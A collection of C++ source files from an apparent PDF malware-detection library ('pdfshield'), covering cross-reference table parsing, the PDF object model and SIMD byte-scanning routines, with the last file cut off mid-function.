    // Fast path: almost every real table is spec-exact fixed-width records;
    // parse the whole subsection as one batch without tokenizing. Any
    // deviation (short records, comments, odd spacing) falls back to the
    // tolerant token loop below, which also owns the error reporting.
    if (count.int_value > 0) {
      std::size_t start = lex.position();
      while (start < file.size() && cc_has(file[start], kCcWhitespace)) {
        ++start;
      }
      if (const auto end =
              match_xref_records(file, start, count.int_value)) {
        commit_xref_records(file, start, first.int_value, count.int_value,
                            section);
        lex.seek(*end);
        continue;
      }
    }
    for (std::int64_t i = 0; i < count.int_value; ++i) {
      const Token off = lex.next();
      const Token gen = lex.next();
      const Token type = lex.next();
      if (off.kind != TokenKind::kInteger || gen.kind != TokenKind::kInteger ||
          type.kind != TokenKind::kKeyword ||
          (type.text != "n" && type.text != "f")) {
        throw ParseError("malformed xref entry");
      }
      XrefEntry entry;
      entry.offset = static_cast<std::size_t>(off.int_value);
      entry.generation = static_cast<int>(gen.int_value);
      entry.in_use = type.text == "n";
      section.entries[static_cast<int>(first.int_value + i)] = entry;
    }
  }

  // Trailer: look for /Prev.
  const Token trailer_kw = lex.peek();
  if (trailer_kw.kind == TokenKind::kKeyword && trailer_kw.text == "trailer") {
    lex.next();
    // Minimal dict scan: reuse the object parser via parse_object_text on
    // the remaining slice would lose offsets; a simple token walk finds
    // /Prev without full parsing.
    int depth = 0;
    while (true) {
      Token t = lex.next();
      if (t.kind == TokenKind::kEof) break;
      if (t.kind == TokenKind::kDictOpen) ++depth;
      if (t.kind == TokenKind::kDictClose && --depth == 0) break;
      if (t.kind == TokenKind::kName && t.text == "Prev" && depth == 1) {
        Token v = lex.next();
        if (v.kind == TokenKind::kInteger && v.int_value >= 0) {
          section.prev = static_cast<std::size_t>(v.int_value);
        }
      }
    }
  }
  return section;
}

std::vector<XrefSection> read_xref_chain(BytesView file) {
  std::vector<XrefSection> chain;
  std::optional<std::size_t> next = read_startxref(file);
  std::set<std::size_t> seen;
  while (next && chain.size() < 64) {
    if (!seen.insert(*next).second) break;  // cycle
    chain.push_back(read_xref_section(file, *next));
    next = chain.back().prev;
  }
  return chain;
}

std::vector<int> verify_xref_offsets(BytesView file) {
  std::vector<int> bad;
  // Newest definition wins across the chain. Hash map + a final sort of
  // the verdict list: same deterministic output, no ordered-map nodes.
  std::unordered_map<int, XrefEntry> effective;
  const std::vector<XrefSection> chain = read_xref_chain(file);
  // Chain is newest-first; fill oldest-first so newer overwrites.
  for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
    for (const auto& [num, entry] : it->entries) effective[num] = entry;
  }
  for (const auto& [num, entry] : effective) {
    if (!entry.in_use) continue;
    Lexer lex(file, entry.offset);
    try {
      const Token n = lex.next();
      const Token g = lex.next();
      const Token kw = lex.next();
      const bool ok = n.kind == TokenKind::kInteger && n.int_value == num &&
                      g.kind == TokenKind::kInteger &&
                      kw.kind == TokenKind::kKeyword && kw.text == "obj";
      if (!ok) bad.push_back(num);
    } catch (const support::Error&) {
      bad.push_back(num);
    }
  }
  std::sort(bad.begin(), bad.end());
  return bad;
}

}  // namespace pdfshield::pdf
