#include "pdf/xref.hpp"

#include <algorithm>
#include <set>
#include <unordered_map>

#include "pdf/lexer.hpp"
#include "pdf/parser.hpp"
#include "support/error.hpp"

namespace pdfshield::pdf {

using support::BytesView;
using support::ParseError;

std::optional<std::size_t> read_startxref(BytesView file) {
  const std::string_view text = support::as_view(file);
  const std::size_t pos = text.rfind("startxref");
  if (pos == std::string_view::npos) return std::nullopt;
  Lexer lex(file, pos);
  Token kw = lex.next();
  if (kw.kind != TokenKind::kKeyword || kw.text != "startxref") return std::nullopt;
  Token value = lex.next();
  if (value.kind != TokenKind::kInteger || value.int_value < 0) return std::nullopt;
  return static_cast<std::size_t>(value.int_value);
}

XrefSection read_xref_section(BytesView file, std::size_t offset) {
  XrefSection section;
  section.position = offset;
  Lexer lex(file, offset);

  Token kw = lex.next();
  if (kw.kind != TokenKind::kKeyword || kw.text != "xref") {
    throw ParseError("xref keyword not found at offset " + std::to_string(offset));
  }

  // Subsections: "<first> <count>" followed by count 20-byte entries.
  while (true) {
    const Token first = lex.peek();
    if (first.kind != TokenKind::kInteger) break;
    lex.next();
    const Token count = lex.next();
    if (count.kind != TokenKind::kInteger) {
      throw ParseError("xref subsection count missing");
    }
    for (std::int64_t i = 0; i < count.int_value; ++i) {
      const Token off = lex.next();
      const Token gen = lex.next();
      const Token type = lex.next();
      if (off.kind != TokenKind::kInteger || gen.kind != TokenKind::kInteger ||
          type.kind != TokenKind::kKeyword ||
          (type.text != "n" && type.text != "f")) {
        throw ParseError("malformed xref entry");
      }
      XrefEntry entry;
      entry.offset = static_cast<std::size_t>(off.int_value);
      entry.generation = static_cast<int>(gen.int_value);
      entry.in_use = type.text == "n";
      section.entries[static_cast<int>(first.int_value + i)] = entry;
    }
  }

  // Trailer: look for /Prev.
  const Token trailer_kw = lex.peek();
  if (trailer_kw.kind == TokenKind::kKeyword && trailer_kw.text == "trailer") {
    lex.next();
    // Minimal dict scan: reuse the object parser via parse_object_text on
    // the remaining slice would lose offsets; a simple token walk finds
    // /Prev without full parsing.
    int depth = 0;
    while (true) {
      Token t = lex.next();
      if (t.kind == TokenKind::kEof) break;
      if (t.kind == TokenKind::kDictOpen) ++depth;
      if (t.kind == TokenKind::kDictClose && --depth == 0) break;
      if (t.kind == TokenKind::kName && t.text == "Prev" && depth == 1) {
        Token v = lex.next();
        if (v.kind == TokenKind::kInteger && v.int_value >= 0) {
          section.prev = static_cast<std::size_t>(v.int_value);
        }
      }
    }
  }
  return section;
}

std::vector<XrefSection> read_xref_chain(BytesView file) {
  std::vector<XrefSection> chain;
  std::optional<std::size_t> next = read_startxref(file);
  std::set<std::size_t> seen;
  while (next && chain.size() < 64) {
    if (!seen.insert(*next).second) break;  // cycle
    chain.push_back(read_xref_section(file, *next));
    next = chain.back().prev;
  }
  return chain;
}

std::vector<int> verify_xref_offsets(BytesView file) {
  std::vector<int> bad;
  // Newest definition wins across the chain. Hash map + a final sort of
  // the verdict list: same deterministic output, no ordered-map nodes.
  std::unordered_map<int, XrefEntry> effective;
  const std::vector<XrefSection> chain = read_xref_chain(file);
  // Chain is newest-first; fill oldest-first so newer overwrites.
  for (auto it = chain.rbegin(); it != chain.rend(); ++it) {
    for (const auto& [num, entry] : it->entries) effective[num] = entry;
  }
  for (const auto& [num, entry] : effective) {
    if (!entry.in_use) continue;
    Lexer lex(file, entry.offset);
    try {
      const Token n = lex.next();
      const Token g = lex.next();
      const Token kw = lex.next();
      const bool ok = n.kind == TokenKind::kInteger && n.int_value == num &&
                      g.kind == TokenKind::kInteger &&
                      kw.kind == TokenKind::kKeyword && kw.text == "obj";
      if (!ok) bad.push_back(num);
    } catch (const support::Error&) {
      bad.push_back(num);
    }
  }
  std::sort(bad.begin(), bad.end());
  return bad;
}

}  // namespace pdfshield::pdf
