// Robust PDF parser. Uses a sequential recovery scan (every "N G obj" in
// token order) rather than trusting the cross-reference table: malicious
// documents routinely ship broken or misleading xrefs, and the paper's
// front-end must still see every object. Trailer dictionaries are merged in
// file order so the newest /Root wins, mirroring incremental updates.
#pragma once

#include <cstdint>

#include "pdf/document.hpp"
#include "support/arena.hpp"
#include "support/bytes.hpp"

namespace pdfshield::pdf {

/// Counters filled during parsing; feeds the Table XI analogue.
struct ParseStats {
  std::size_t indirect_objects = 0;
  std::size_t tokens = 0;        ///< Tokens consumed (scan granularity).
  std::size_t streams = 0;
  std::size_t skipped_junk = 0;  ///< Unparseable regions skipped over.
};

/// Parses `data` into a Document. Never throws on malformed regions — it
/// skips them (counting in stats) — but does throw ParseError when no PDF
/// structure at all can be found.
///
/// The input is copied once into `arena` (a fresh one is created when none
/// is given) and the returned Document's object graph borrows from it; the
/// Document keeps the handle, so the graph is freed — or recycled via
/// Arena::reset() by callers that own the handle — in O(1).
Document parse_document(support::BytesView data, ParseStats* stats = nullptr,
                        support::ArenaHandle arena = nullptr);

/// Parses a single object expression (no "N G obj" wrapper) from text.
/// Used by tests and by the corpus builder. The result is fully owning.
Object parse_object_text(std::string_view text);

}  // namespace pdfshield::pdf
