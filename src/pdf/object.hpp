// PDF object model (PDF Reference, 6th ed. §3.2): the eight basic types
// plus streams and indirect references.
//
// Memory architecture (DESIGN.md §3f): the model is *borrowed by default*.
// Names are interned views into the process-wide name table; string and
// stream payloads are CowBytes views into the document's arena; container
// nodes (arrays, dict entries) are std::pmr and draw from the same arena.
// Moves preserve borrowing (the zero-copy parse path is all moves), while
// copies always detach to owning heap storage — so a copied Object or
// Document is safe to keep after its source arena dies, and an Object
// *moved* out of a document is valid only while the document's arena lives.
#pragma once

#include <cstdint>
#include <functional>
#include <memory_resource>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <variant>
#include <vector>

#include "support/bytes.hpp"
#include "support/cow_bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::pdf {

class Object;

/// Indirect reference "N G R".
struct Ref {
  int num = 0;
  int gen = 0;

  friend bool operator==(const Ref&, const Ref&) = default;
  friend auto operator<=>(const Ref&, const Ref&) = default;
};

/// PDF string object. `hex` records the written form (literal vs <...>)
/// so round-trips keep the author's spelling. `data` borrows from the
/// document arena until something mutates it.
struct String {
  support::CowBytes data;
  bool hex = false;

  friend bool operator==(const String& a, const String& b) {
    return a.data == b.data;  // spelling is presentation, not identity
  }
};

/// PDF name object. `value` is the decoded name (no leading '/', #xx
/// escapes resolved), interned in the process-wide name table so every
/// Name is two views and equality is cheap. `raw` preserves the exact
/// spelling as written when it differs from the canonical form — malicious
/// documents hide keywords as e.g. /JavaScr#69pt, and both features and
/// corpus generation need that. Canonically spelled names carry a null
/// `raw` view: no second storage.
///
/// Two construction paths: the constructors intern unconditionally and are
/// for program-defined vocabulary (the name table is process-lifetime, so
/// its growth is capped); stable() is the parse-path factory for
/// attacker-derived spellings whose storage already lives as long as the
/// document — it dedupes through the bounded table without ever growing it
/// past its cap.
struct Name {
  std::string_view value;
  std::string_view raw;  ///< Null/empty when the canonical spelling was used.

  Name() = default;
  explicit Name(std::string_view v);
  Name(std::string_view v, std::string_view r);

  /// Builds a name from views that are themselves stable for the intended
  /// lifetime (input buffer or arena storage). Spellings beyond the name
  /// table's cap keep borrowing the caller's storage, so such a Name — and
  /// any copy of it — must not outlive its document's arena.
  static Name stable(std::string_view v, std::string_view r = {});

  bool has_hex_escape() const { return !raw.empty(); }

  friend bool operator==(const Name& a, const Name& b) {
    return a.value == b.value;
  }
  friend bool operator<(const Name& a, const Name& b) {
    return a.value < b.value;
  }
};

/// Insertion-ordered dictionary. PDF dictionaries have unique keys; order
/// is not semantically meaningful but keeping it makes written documents
/// stable and diffable. Entry storage is pmr: a dict built by the parser
/// draws its nodes from the document arena, a default-constructed dict
/// from the heap.
struct DictEntry;

class Dict {
 public:
  /// Alias for the entry type (defined after Object, which it contains).
  using Entry = DictEntry;
  using Entries = std::pmr::vector<Entry>;

  Dict() = default;
  explicit Dict(std::pmr::memory_resource* mem) : entries_(mem) {}

  bool contains(std::string_view key) const;
  /// Returns the value or nullptr.
  const Object* find(std::string_view key) const;
  Object* find(std::string_view key);
  /// Returns the value; throws LogicError if absent.
  const Object& at(std::string_view key) const;
  /// Inserts or overwrites. The key is interned, so any caller-owned
  /// storage may die immediately after the call.
  void set(std::string_view key, Object value);
  /// Inserts or overwrites, recording an obfuscated raw spelling for the
  /// key (e.g. "/JavaScr#69pt"); the writer emits it verbatim.
  void set_with_raw(std::string_view key, std::string_view raw_key,
                    Object value);
  /// Parse-path insert: like set_with_raw, but the key views must already
  /// be stable for the document's lifetime and are deduped through the
  /// bounded name table instead of growing it (see Name::stable).
  void set_stable(std::string_view key, std::string_view raw_key,
                  Object value);
  /// True if any key was written with a #xx hex escape.
  bool has_hex_escaped_key() const;
  /// Removes a key if present; returns true if it was removed.
  bool erase(std::string_view key);

  std::size_t size() const { return entries_.size(); }
  bool empty() const { return entries_.empty(); }
  const Entries& entries() const { return entries_; }
  Entries& entries() { return entries_; }

  friend bool operator==(const Dict&, const Dict&);

 private:
  Entries entries_;
};

/// Stream object: a dictionary plus raw (still encoded) data. A parsed
/// stream's body borrows the input bytes; decompression and
/// instrumentation replace it with owning data.
struct Stream {
  Dict dict;
  support::CowBytes data;

  friend bool operator==(const Stream&, const Stream&);
};

using Array = std::pmr::vector<Object>;

/// A PDF object: tagged union over the spec's types.
class Object {
 public:
  using Value = std::variant<std::monostate, bool, std::int64_t, double,
                             String, Name, Array, Dict, Stream, Ref>;

  Object() = default;  // null
  Object(bool b) : v_(b) {}
  Object(int i) : v_(static_cast<std::int64_t>(i)) {}
  Object(std::int64_t i) : v_(i) {}
  Object(double d) : v_(d) {}
  Object(String s) : v_(std::move(s)) {}
  Object(Name n) : v_(n) {}
  Object(Array a) : v_(std::move(a)) {}
  Object(Dict d) : v_(std::move(d)) {}
  Object(Stream s) : v_(std::move(s)) {}
  Object(Ref r) : v_(r) {}

  /// Convenience factories.
  static Object null() { return Object(); }
  static Object name(std::string_view v) { return Object(Name(v)); }
  static Object string(std::string_view text) {
    return Object(String{support::to_bytes(text), false});
  }

  bool is_null() const { return std::holds_alternative<std::monostate>(v_); }
  bool is_bool() const { return std::holds_alternative<bool>(v_); }
  bool is_int() const { return std::holds_alternative<std::int64_t>(v_); }
  bool is_real() const { return std::holds_alternative<double>(v_); }
  bool is_number() const { return is_int() || is_real(); }
  bool is_string() const { return std::holds_alternative<String>(v_); }
  bool is_name() const { return std::holds_alternative<Name>(v_); }
  bool is_array() const { return std::holds_alternative<Array>(v_); }
  bool is_dict() const { return std::holds_alternative<Dict>(v_); }
  bool is_stream() const { return std::holds_alternative<Stream>(v_); }
  bool is_ref() const { return std::holds_alternative<Ref>(v_); }

  bool as_bool() const { return get<bool>("bool"); }
  std::int64_t as_int() const { return get<std::int64_t>("integer"); }
  double as_number() const;
  const String& as_string() const { return get<String>("string"); }
  const Name& as_name() const { return get<Name>("name"); }
  const Array& as_array() const { return get<Array>("array"); }
  Array& as_array() { return get<Array>("array"); }
  const Dict& as_dict() const { return get<Dict>("dict"); }
  Dict& as_dict() { return get<Dict>("dict"); }
  const Stream& as_stream() const { return get<Stream>("stream"); }
  Stream& as_stream() { return get<Stream>("stream"); }
  Ref as_ref() const { return get<Ref>("ref"); }

  /// For streams returns the stream dictionary, for dicts the dict itself;
  /// throws otherwise.
  const Dict& dict_or_stream_dict() const;
  Dict& dict_or_stream_dict();

  /// The name value if this is a name, else nullopt.
  std::optional<std::string_view> name_value() const;

  const Value& value() const { return v_; }
  Value& value() { return v_; }

  friend bool operator==(const Object&, const Object&);

 private:
  template <typename T>
  const T& get(const char* what) const {
    const T* p = std::get_if<T>(&v_);
    if (!p) throw support::LogicError(std::string("object is not a ") + what);
    return *p;
  }
  template <typename T>
  T& get(const char* what) {
    T* p = std::get_if<T>(&v_);
    if (!p) throw support::LogicError(std::string("object is not a ") + what);
    return *p;
  }

  Value v_;
};

/// One dictionary entry. The key views are interned — stable for the life
/// of the process for program-set keys and for the common parse-path
/// vocabulary, stable for the owning document's lifetime for parsed
/// spellings beyond the name-table cap; `raw_key` preserves an obfuscated
/// spelling (e.g. "/JavaScr#69pt") when the document used #xx escapes,
/// null otherwise.
struct DictEntry {
  std::string_view key;
  Object value;
  std::string_view raw_key;
};

/// A human-readable type tag ("null", "int", "stream", ...) for diagnostics.
std::string_view type_name(const Object& obj);

}  // namespace pdfshield::pdf

/// Hash support so graph/xref tables can use unordered maps keyed on Ref.
template <>
struct std::hash<pdfshield::pdf::Ref> {
  std::size_t operator()(const pdfshield::pdf::Ref& r) const noexcept {
    const auto num = static_cast<std::uint64_t>(static_cast<std::uint32_t>(r.num));
    const auto gen = static_cast<std::uint64_t>(static_cast<std::uint32_t>(r.gen));
    return std::hash<std::uint64_t>{}((num << 32) | gen);
  }
};
