// PDF object model (PDF Reference, 6th ed. §3.2): the eight basic types
// plus streams and indirect references, with value semantics throughout.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <variant>
#include <vector>

#include "support/bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::pdf {

class Object;

/// Indirect reference "N G R".
struct Ref {
  int num = 0;
  int gen = 0;

  friend bool operator==(const Ref&, const Ref&) = default;
  friend auto operator<=>(const Ref&, const Ref&) = default;
};

/// PDF string object. `hex` records the written form (literal vs <...>)
/// so round-trips keep the author's spelling.
struct String {
  support::Bytes data;
  bool hex = false;

  friend bool operator==(const String& a, const String& b) {
    return a.data == b.data;  // spelling is presentation, not identity
  }
};

/// PDF name object. `value` is the decoded name (no leading '/', #xx
/// escapes resolved). `raw` preserves the exact spelling as written when it
/// differs from the canonical form — malicious documents hide keywords as
/// e.g. /JavaScr#69pt, and both features and corpus generation need that.
struct Name {
  std::string value;
  std::string raw;  ///< Empty when the canonical spelling was used.

  Name() = default;
  explicit Name(std::string v) : value(std::move(v)) {}
  Name(std::string v, std::string r) : value(std::move(v)), raw(std::move(r)) {}

  bool has_hex_escape() const { return !raw.empty(); }

  friend bool operator==(const Name& a, const Name& b) {
    return a.value == b.value;
  }
  friend bool operator<(const Name& a, const Name& b) {
    return a.value < b.value;
  }
};

/// Insertion-ordered dictionary. PDF dictionaries have unique keys; order
/// is not semantically meaningful but keeping it makes written documents
/// stable and diffable.
struct DictEntry;

class Dict {
 public:
  /// Alias for the entry type (defined after Object, which it contains).
  using Entry = DictEntry;

  bool contains(std::string_view key) const;
  /// Returns the value or nullptr.
  const Object* find(std::string_view key) const;
  Object* find(std::string_view key);
  /// Returns the value; throws LogicError if absent.
  const Object& at(std::string_view key) const;
  /// Inserts or overwrites.
  void set(std::string key, Object value);
  /// Inserts or overwrites, recording an obfuscated raw spelling for the
  /// key (e.g. "/JavaScr#69pt"); the writer emits it verbatim.
  void set_with_raw(std::string key, std::string raw_key, Object value);
  /// True if any key was written with a #xx hex escape.
  bool has_hex_escaped_key() const;
  /// Removes a key if present; returns true if it was removed.
  bool erase(std::string_view key);

  std::size_t size() const { return entries_.size(); }
  bool empty() const { return entries_.empty(); }
  const std::vector<Entry>& entries() const { return entries_; }
  std::vector<Entry>& entries() { return entries_; }

  friend bool operator==(const Dict&, const Dict&);

 private:
  std::vector<Entry> entries_;
};

/// Stream object: a dictionary plus raw (still encoded) data.
struct Stream {
  Dict dict;
  support::Bytes data;

  friend bool operator==(const Stream&, const Stream&);
};

using Array = std::vector<Object>;

/// A PDF object: tagged union over the spec's types.
class Object {
 public:
  using Value = std::variant<std::monostate, bool, std::int64_t, double,
                             String, Name, Array, Dict, Stream, Ref>;

  Object() = default;  // null
  Object(bool b) : v_(b) {}
  Object(int i) : v_(static_cast<std::int64_t>(i)) {}
  Object(std::int64_t i) : v_(i) {}
  Object(double d) : v_(d) {}
  Object(String s) : v_(std::move(s)) {}
  Object(Name n) : v_(std::move(n)) {}
  Object(Array a) : v_(std::move(a)) {}
  Object(Dict d) : v_(std::move(d)) {}
  Object(Stream s) : v_(std::move(s)) {}
  Object(Ref r) : v_(r) {}

  /// Convenience factories.
  static Object null() { return Object(); }
  static Object name(std::string v) { return Object(Name(std::move(v))); }
  static Object string(std::string_view text) {
    return Object(String{support::to_bytes(text), false});
  }

  bool is_null() const { return std::holds_alternative<std::monostate>(v_); }
  bool is_bool() const { return std::holds_alternative<bool>(v_); }
  bool is_int() const { return std::holds_alternative<std::int64_t>(v_); }
  bool is_real() const { return std::holds_alternative<double>(v_); }
  bool is_number() const { return is_int() || is_real(); }
  bool is_string() const { return std::holds_alternative<String>(v_); }
  bool is_name() const { return std::holds_alternative<Name>(v_); }
  bool is_array() const { return std::holds_alternative<Array>(v_); }
  bool is_dict() const { return std::holds_alternative<Dict>(v_); }
  bool is_stream() const { return std::holds_alternative<Stream>(v_); }
  bool is_ref() const { return std::holds_alternative<Ref>(v_); }

  bool as_bool() const { return get<bool>("bool"); }
  std::int64_t as_int() const { return get<std::int64_t>("integer"); }
  double as_number() const;
  const String& as_string() const { return get<String>("string"); }
  const Name& as_name() const { return get<Name>("name"); }
  const Array& as_array() const { return get<Array>("array"); }
  Array& as_array() { return get<Array>("array"); }
  const Dict& as_dict() const { return get<Dict>("dict"); }
  Dict& as_dict() { return get<Dict>("dict"); }
  const Stream& as_stream() const { return get<Stream>("stream"); }
  Stream& as_stream() { return get<Stream>("stream"); }
  Ref as_ref() const { return get<Ref>("ref"); }

  /// For streams returns the stream dictionary, for dicts the dict itself;
  /// throws otherwise.
  const Dict& dict_or_stream_dict() const;
  Dict& dict_or_stream_dict();

  /// The name value if this is a name, else nullopt.
  std::optional<std::string_view> name_value() const;

  const Value& value() const { return v_; }
  Value& value() { return v_; }

  friend bool operator==(const Object&, const Object&);

 private:
  template <typename T>
  const T& get(const char* what) const {
    const T* p = std::get_if<T>(&v_);
    if (!p) throw support::LogicError(std::string("object is not a ") + what);
    return *p;
  }
  template <typename T>
  T& get(const char* what) {
    T* p = std::get_if<T>(&v_);
    if (!p) throw support::LogicError(std::string("object is not a ") + what);
    return *p;
  }

  Value v_;
};

/// One dictionary entry. `raw_key` preserves an obfuscated spelling (e.g.
/// "/JavaScr#69pt") when the document used #xx escapes; empty otherwise.
struct DictEntry {
  std::string key;
  Object value;
  std::string raw_key;
};

/// A human-readable type tag ("null", "int", "stream", ...) for diagnostics.
std::string_view type_name(const Object& obj);

}  // namespace pdfshield::pdf
