#include "pdf/charclass.hpp"

#include <cstring>

#if defined(__x86_64__) || defined(__i386__)
#include <immintrin.h>
#define PDFSHIELD_X86 1
#endif

namespace pdfshield::pdf {

namespace {

constexpr std::array<std::uint8_t, 256> make_char_class() {
  std::array<std::uint8_t, 256> t{};
  constexpr unsigned char ws[] = {0x00, 0x09, 0x0a, 0x0c, 0x0d, 0x20};
  for (const unsigned char c : ws) t[c] |= kCcWhitespace;
  constexpr unsigned char delim[] = {'(', ')', '<', '>', '[',
                                     ']', '{', '}', '/', '%'};
  for (const unsigned char c : delim) t[c] |= kCcDelimiter;
  for (unsigned c = '0'; c <= '9'; ++c) {
    t[c] |= kCcDigit | kCcHexDigit | kCcNumberStart;
  }
  for (unsigned c = 'a'; c <= 'f'; ++c) t[c] |= kCcHexDigit;
  for (unsigned c = 'A'; c <= 'F'; ++c) t[c] |= kCcHexDigit;
  t[static_cast<unsigned char>('+')] |= kCcNumberStart;
  t[static_cast<unsigned char>('-')] |= kCcNumberStart;
  t[static_cast<unsigned char>('.')] |= kCcNumberStart;
  return t;
}

constexpr std::array<std::int8_t, 256> make_hex_value() {
  std::array<std::int8_t, 256> t{};
  for (auto& v : t) v = -1;
  for (unsigned c = '0'; c <= '9'; ++c) t[c] = static_cast<std::int8_t>(c - '0');
  for (unsigned c = 'a'; c <= 'f'; ++c) {
    t[c] = static_cast<std::int8_t>(c - 'a' + 10);
  }
  for (unsigned c = 'A'; c <= 'F'; ++c) {
    t[c] = static_cast<std::int8_t>(c - 'A' + 10);
  }
  return t;
}

// ---------------------------------------------------------------------------
// SWAR primitives (the always-compiled fallback tier). The classic
// "determine if a word has a zero byte" bit trick finds a target byte in 8
// input bytes with four ALU ops; the resulting nonzero marker sits in the
// matching byte's sign bit.
// ---------------------------------------------------------------------------

constexpr std::uint64_t kOnes = 0x0101010101010101ull;
constexpr std::uint64_t kHighs = 0x8080808080808080ull;

constexpr std::uint64_t swar_broadcast(std::uint8_t c) { return kOnes * c; }

constexpr std::uint64_t swar_match(std::uint64_t word, std::uint64_t needle) {
  const std::uint64_t x = word ^ needle;
  return (x - kOnes) & ~x & kHighs;
}

inline std::uint64_t load_word(const std::uint8_t* p) {
  std::uint64_t w;
  std::memcpy(&w, p, 8);
  return w;
}

/// Index of the lowest-addressed marked byte in a swar_match result.
inline std::size_t swar_first(std::uint64_t marks) {
#if defined(__BYTE_ORDER__) && __BYTE_ORDER__ == __ORDER_BIG_ENDIAN__
  return static_cast<std::size_t>(__builtin_clzll(marks)) >> 3;
#else
  return static_cast<std::size_t>(__builtin_ctzll(marks)) >> 3;
#endif
}

// ---------------------------------------------------------------------------
// SSSE3/AVX2 nibble classification: two pshufb lookups (one on the low
// nibble, one on the high nibble) AND together to a nonzero byte exactly
// for the 16 token-stopping characters (6 whitespace + 10 delimiters).
// Each stop character is assigned a bit by high-nibble group; bytes >= 0x80
// classify as regular automatically because their high-nibble rows are 0.
// ---------------------------------------------------------------------------

#if PDFSHIELD_X86

// Low-nibble rows: OR of group bits for every stop char with that low
// nibble. Groups: bit0 = 0x0X {00 09 0A 0C 0D}, bit1 = 0x2X {20 25 28 29
// 2F}, bit2 = 0x3X {3C 3E}, bit3 = 0x5X/0x7X {5B 5D 7B 7D}.
alignas(16) constexpr std::uint8_t kStopLo[16] = {
    3, 0, 0, 0, 0, 2, 0, 0, 2, 3, 1, 8, 5, 9, 4, 2};
alignas(16) constexpr std::uint8_t kStopHi[16] = {
    1, 0, 2, 4, 0, 8, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0};

__attribute__((target("ssse3"))) std::size_t scan_regular_ssse3(
    const std::uint8_t* p, std::size_t n, std::size_t i) {
  const __m128i lo_tbl =
      _mm_load_si128(reinterpret_cast<const __m128i*>(kStopLo));
  const __m128i hi_tbl =
      _mm_load_si128(reinterpret_cast<const __m128i*>(kStopHi));
  const __m128i nib = _mm_set1_epi8(0x0f);
  const __m128i zero = _mm_setzero_si128();
  for (; i + 16 <= n; i += 16) {
    const __m128i x = _mm_loadu_si128(reinterpret_cast<const __m128i*>(p + i));
    const __m128i lo = _mm_shuffle_epi8(lo_tbl, _mm_and_si128(x, nib));
    const __m128i hi = _mm_shuffle_epi8(
        hi_tbl, _mm_and_si128(_mm_srli_epi16(x, 4), nib));
    const __m128i stop = _mm_and_si128(lo, hi);
    const int regular_mask =
        _mm_movemask_epi8(_mm_cmpeq_epi8(stop, zero));
    if (regular_mask != 0xffff) {
      return i + static_cast<std::size_t>(
                     __builtin_ctz(~static_cast<unsigned>(regular_mask)));
    }
  }
  while (i < n && cc_regular(p[i])) ++i;
  return i;
}

__attribute__((target("avx2"))) std::size_t scan_regular_avx2(
    const std::uint8_t* p, std::size_t n, std::size_t i) {
  const __m256i lo_tbl = _mm256_broadcastsi128_si256(
      _mm_load_si128(reinterpret_cast<const __m128i*>(kStopLo)));
  const __m256i hi_tbl = _mm256_broadcastsi128_si256(
      _mm_load_si128(reinterpret_cast<const __m128i*>(kStopHi)));
  const __m256i nib = _mm256_set1_epi8(0x0f);
  const __m256i zero = _mm256_setzero_si256();
  for (; i + 32 <= n; i += 32) {
    const __m256i x =
        _mm256_loadu_si256(reinterpret_cast<const __m256i*>(p + i));
    const __m256i lo = _mm256_shuffle_epi8(lo_tbl, _mm256_and_si256(x, nib));
    const __m256i hi = _mm256_shuffle_epi8(
        hi_tbl, _mm256_and_si256(_mm256_srli_epi16(x, 4), nib));
    const __m256i stop = _mm256_and_si256(lo, hi);
    const unsigned regular_mask = static_cast<unsigned>(
        _mm256_movemask_epi8(_mm256_cmpeq_epi8(stop, zero)));
    if (regular_mask != 0xffffffffu) {
      return i + static_cast<std::size_t>(__builtin_ctz(~regular_mask));
    }
  }
  while (i < n && cc_regular(p[i])) ++i;
  return i;
}

__attribute__((target("sse2"))) std::size_t scan_string_special_sse2(
    const std::uint8_t* p, std::size_t n) {
  const __m128i bs = _mm_set1_epi8('\\');
  const __m128i op = _mm_set1_epi8('(');
  const __m128i cp = _mm_set1_epi8(')');
  std::size_t i = 0;
  for (; i + 16 <= n; i += 16) {
    const __m128i x = _mm_loadu_si128(reinterpret_cast<const __m128i*>(p + i));
    const __m128i hit = _mm_or_si128(
        _mm_or_si128(_mm_cmpeq_epi8(x, bs), _mm_cmpeq_epi8(x, op)),
        _mm_cmpeq_epi8(x, cp));
    const int mask = _mm_movemask_epi8(hit);
    if (mask != 0) {
      return i +
             static_cast<std::size_t>(__builtin_ctz(static_cast<unsigned>(mask)));
    }
  }
  for (; i < n; ++i) {
    const std::uint8_t c = p[i];
    if (c == '\\' || c == '(' || c == ')') return i;
  }
  return n;
}

__attribute__((target("sse2"))) std::size_t scan_to_eol_sse2(
    const std::uint8_t* p, std::size_t n) {
  const __m128i cr = _mm_set1_epi8('\r');
  const __m128i lf = _mm_set1_epi8('\n');
  std::size_t i = 0;
  for (; i + 16 <= n; i += 16) {
    const __m128i x = _mm_loadu_si128(reinterpret_cast<const __m128i*>(p + i));
    const __m128i hit =
        _mm_or_si128(_mm_cmpeq_epi8(x, cr), _mm_cmpeq_epi8(x, lf));
    const int mask = _mm_movemask_epi8(hit);
    if (mask != 0) {
      return i +
             static_cast<std::size_t>(__builtin_ctz(static_cast<unsigned>(mask)));
    }
  }
  for (; i < n; ++i) {
    if (p[i] == '\r' || p[i] == '\n') return i;
  }
  return n;
}

#endif  // PDFSHIELD_X86

std::size_t scan_regular_swar(const std::uint8_t* p, std::size_t n,
                              std::size_t i) {
  // Membership in a 16-character set does not SWAR directly; an unrolled
  // table walk (4 independent loads per step) is the portable fallback.
  for (; i + 4 <= n; i += 4) {
    if (!cc_regular(p[i])) return i;
    if (!cc_regular(p[i + 1])) return i + 1;
    if (!cc_regular(p[i + 2])) return i + 2;
    if (!cc_regular(p[i + 3])) return i + 3;
  }
  while (i < n && cc_regular(p[i])) ++i;
  return i;
}

std::size_t scan_string_special_swar(const std::uint8_t* p, std::size_t n) {
  constexpr std::uint64_t kBs = swar_broadcast('\\');
  constexpr std::uint64_t kOp = swar_broadcast('(');
  constexpr std::uint64_t kCp = swar_broadcast(')');
  std::size_t i = 0;
  for (; i + 8 <= n; i += 8) {
    const std::uint64_t w = load_word(p + i);
    const std::uint64_t marks =
        swar_match(w, kBs) | swar_match(w, kOp) | swar_match(w, kCp);
    if (marks != 0) return i + swar_first(marks);
  }
